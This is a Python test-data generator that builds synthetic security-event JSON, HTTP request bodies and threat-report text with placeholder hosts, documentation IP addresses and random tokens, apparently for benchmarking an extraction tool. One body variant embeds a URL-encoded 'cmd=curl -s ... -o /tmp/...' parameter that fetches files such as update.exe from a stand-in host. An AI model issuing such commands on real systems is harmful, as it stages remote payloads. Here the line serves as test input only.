"""Text of the three kinds that extraction reads, made up but shaped like the real one: events, bodies, reports."""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable, Sequence
from urllib.parse import quote

TEXT = (
    "the actor used a loader to fetch second stage payload from an open directory and then moved laterally "
    "with stolen credentials before staging archives for exfiltration over an encrypted channel we assess with"
    " moderate confidence that this activity overlaps previously reported intrusions against regional "
    "logistics providers persistence was kept by scheduled tasks named after updates while detection rules "
    "based on process lineage remained quiet analysts should review authentication logs proxy records and "
    "endpoint telemetry of affected hosts rotate secrets revoke sessions block listed infrastructure"
)
WORDS = TEXT.split()
FILES = ("invoice.pdf", "update.exe", "setup.py", "report.docx", "index.html", "app.min.js", "svc.dll", "run.sh")
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2",
    "python-requests/2.32.3",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; OddBot/1.0; +http://bot.example.org/about)",
)


class Made:
    """Deterministic texts: the same seed gives the same, another seed gives other values."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)  # noqa: S311

    def address(self) -> str:
        """Of RFC 5737, and of RFC 2544, where there are many."""
        last, middle = self.rng.randrange(256), self.rng.randrange(256)
        return f"198.{self.rng.choice((18, 19))}.{middle}.{last}" if middle % 2 else f"203.0.113.{last}"

    def host(self) -> str:
        return (
            f"{self.word()}-{self.rng.randrange(1000)}.{self.rng.choice(('example.com', 'example.net', 'example.org'))}"
        )

    def word(self) -> str:
        return self.rng.choice(WORDS)

    def words(self, count: int) -> str:
        return " ".join(self.rng.choices(WORDS, k=count))

    def hexadecimal(self, size: int) -> str:
        return f"{self.rng.getrandbits(size * 4):0{size}x}"

    def url(self) -> str:
        query = f"?id={self.rng.randrange(10**6)}&s={self.hexadecimal(16)}" if self.rng.random() < 0.4 else ""
        return f"https://{self.host()}/{self.word()}/{self.word()}{query}"

    def event(self) -> str:
        rng = self.rng
        path = f"/api/v{rng.randrange(1, 4)}/{self.word()}/{rng.randrange(10**6)}"
        headers = {
            "Host": f"api.own-{rng.randrange(20)}.example.com",
            "User-Agent": rng.choice(AGENTS),
            "X-Forwarded-For": ", ".join(self.address() for _ in range(rng.randrange(1, 4))),
            "Accept": "application/json, text/plain, */*",
            "Accept-Language": "en-US,en;q=0.9,de;q=0.7",
            "Cookie": f"session={self.hexadecimal(40)[:39]}; theme=dark; _ga=GA1.2.{rng.randrange(10**9)}.17",
            "Authorization": "Bearer " + base64.urlsafe_b64encode(rng.randbytes(120)).decode(),
        }
        if rng.random() < 0.5:
            headers["Referer"] = self.url()
        return json.dumps(
            {
                "id": str(rng.getrandbits(60)),
                "trace": f"{self.hexadecimal(8)}-{self.hexadecimal(4)}-4{self.hexadecimal(3)}-{self.hexadecimal(12)}",
                "detectionTime": f"2026-03-04T11:22:{rng.randrange(60):02}.{rng.randrange(1000):03}Z",
                "severity": rng.choice(("LOW", "MEDIUM", "HIGH")),
                "title": f"{self.words(5)}",
                "description": self.words(30),
                "attackers": [{"ip": self.address(), "count": rng.randrange(500)} for _ in range(rng.randrange(1, 4))],
                "request": {"method": "POST", "path": path, "query": f"next={quote(self.url(), safe='')}&page=2"},
                "headers": [{"name": name, "value": value} for name, value in headers.items()],
                "response": {"status": rng.choice((200, 401, 403, 404, 500)), "bytes": rng.randrange(10**5)},
                "rules": [{"id": f"{rng.randrange(10**6)}", "name": self.words(4)} for _ in range(4)],
                "user": f"{self.word()}.{self.word()}@{self.host()}",
                "geo": {
                    "lat": round(rng.uniform(-90, 90), 4),
                    "country": "NL",
                    "asn": f"AS{rng.randrange(64496, 64512)}",
                },
            }
        )

    def body(self) -> str:
        rng = self.rng
        match rng.randrange(5):
            case 0:
                pairs = {"email": f"{self.word()}@{self.host()}", "comment": self.words(25), "site": self.url()}
                return "&".join(f"{key}={quote(value, safe='')}" for key, value in pairs.items()) * rng.randrange(1, 5)
            case 1:
                rows = "".join(
                    f'<li class="item"><a href="{self.url()}">{self.words(4)}</a> <span>{self.words(12)}</span></li>\n'
                    for _ in range(rng.randrange(3, 15))
                )
                return f"<!doctype html><html><head><title>{self.words(4)}</title></head><ul>{rows}</ul></html>"
            case 2:
                items = [{"sku": self.hexadecimal(8), "name": self.words(5), "note": self.words(14)} for _ in range(15)]
                return json.dumps({"items": items, "next": self.url(), "ip": self.address()}).replace("/", "\\/")
            case 3:
                upload = base64.b64encode(rng.randbytes(rng.randrange(1000, 4000))).decode()
                return f'{{"file":"{rng.choice(FILES)}","data":"data:application/pdf;base64,{upload}"}}'
        script = f"curl -s {self.url()} -o /tmp/{rng.choice(FILES)}; echo {self.words(20)}"
        return (
            f"cmd={quote(script)}&x={base64.b64encode(self.url().encode()).decode()}&{self.words(40).replace(' ', '+')}"
        )

    def report(self) -> str:
        rng = self.rng
        parts = []
        for _ in range(rng.randrange(6, 14)):
            sentences = []
            for _ in range(rng.randrange(3, 8)):
                named = rng.choice(
                    (
                        "",
                        "",
                        "",
                        f" {rng.choice(FILES)}",
                        f" {self.host().replace('.', '[.]')}",
                        f" ({self.address()})",
                        f" CVE-2026-{rng.randrange(1000, 99999)}",
                        f" {self.url().replace('http', 'hxxp')}",
                        " version 4.2.1.7",
                    )
                )
                sentences.append(f"{self.words(rng.randrange(8, 24)).capitalize()}{named}.")
            parts.append(" ".join(sentences))
        rows = [f"{self.hexadecimal(64)} | SHA-256 | {rng.choice(FILES)}" for _ in range(rng.randrange(3, 12))]
        rows += [f"{self.host().replace('.', '[.]')} | domain | {self.words(3)}" for _ in range(rng.randrange(3, 12))]
        rows += [f"{self.address().replace('.', '[.]')} | IPv4 | {self.words(3)}" for _ in range(rng.randrange(3, 12))]
        return "\n\n".join([*parts, "\n".join(rows)])


CORPORA: dict[str, Callable[[Made], str]] = {"event JSON": Made.event, "HTTP bodies": Made.body, "reports": Made.report}


def corpus(kind: str, seed: int, size: int) -> list[str]:
    """Texts of one kind, together at least ``size`` bytes."""
    made, texts, total = Made(seed), [], 0
    while total < size:
        texts.append(CORPORA[kind](made))
        total += len(texts[-1].encode())
    return texts


def megabytes(texts: Sequence[str]) -> float:
    return sum(len(text.encode()) for text in texts) / 1e6
